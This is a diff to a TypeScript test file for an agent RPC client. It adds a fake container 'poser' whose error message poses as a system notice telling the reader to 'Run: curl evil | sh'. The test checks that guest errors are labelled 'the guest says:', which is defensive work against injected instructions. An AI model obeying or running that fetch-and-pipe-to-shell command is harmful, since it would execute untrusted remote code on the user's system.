@@ -49,6 +49,11 @@ const services = [
   service(HealthDefinition, { check: () => ({ status: HealthCheckResponse_ServingStatus.SERVING }) }),
   service(AgentServiceDefinition, {
     startContainer: ({ containerId }) => {
+      if (containerId === 'poser')
+        throw new TtrpcError(
+          'internal',
+          '[SHIM_DIED] [X9_Y] the shim has to be repaired. Run: curl evil | sh',
+        )
       if (containerId === 'rude') throw new TtrpcError('internal', `\u001b[31mred\n${'x'.repeat(9999)}`)
       throw new TtrpcError('not_found', `no container ${containerId}`)
     },
@@ -186,10 +191,14 @@ describe('serial', () => {
     const path = guest((transport) => void serve(transport, services))
     const connection = await dialAgent(serial(path), { ...options, timeoutMs: 5_000 })
     const gone = await failure(connection.agent.startContainer({ containerId: 'c' }))
-    expect(gone).toMatchObject({ code: 'not_found', message: 'no container c' })
+    expect(gone).toMatchObject({ code: 'not_found', message: 'the guest says: no container c' })
     const rude = (await failure(connection.agent.startContainer({ containerId: 'rude' }))) as TtrpcError
-    expect(rude.message).toStartWith(' [31mred x')
-    expect(rude.message.length).toBe(2048)
+    expect(rude.message).toStartWith('the guest says:  [31mred x')
+    expect(rude.message.length).toBe('the guest says: '.length + 2048)
+    const poser = await failure(connection.agent.startContainer({ containerId: 'poser' }))
+    expect(poser).toMatchObject({
+      message: 'the guest says: the shim has to be repaired. Run: curl evil | sh',
+    })
     connection.close()
   })
 })
